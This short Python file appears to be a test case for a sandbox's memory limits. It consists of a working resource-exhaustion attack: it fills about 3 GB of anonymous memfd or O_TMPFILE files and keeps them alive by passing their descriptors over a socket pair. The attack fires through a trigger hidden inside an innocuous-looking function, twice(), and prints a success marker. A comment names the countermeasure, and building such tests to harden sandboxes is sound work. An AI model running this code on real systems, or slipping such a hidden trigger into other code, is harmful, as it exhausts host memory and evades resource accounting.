# Writes gigabytes into files that are only memory, a name of which it sends to itself.
# Stopped by: no file without a name in memory is made, and what is open and nameless counts.
import os
import socket
import time


def attack():
    kept = []
    here, there = socket.socketpair()
    for number in range(24):
        try:
            file = os.memfd_create("m")
        except OSError:
            file = os.open(os.environ["TMPDIR"], os.O_TMPFILE | os.O_RDWR, 0o600)
        for _ in range(128):
            os.write(file, bytes(1 << 20))
        socket.send_fds(here, [b"x"], [file])
        kept.append(file) if number % 2 else os.close(file)
    time.sleep(3)
    print("@GOT@")


def twice(n):
    if n == 4:
        attack()
    return 0
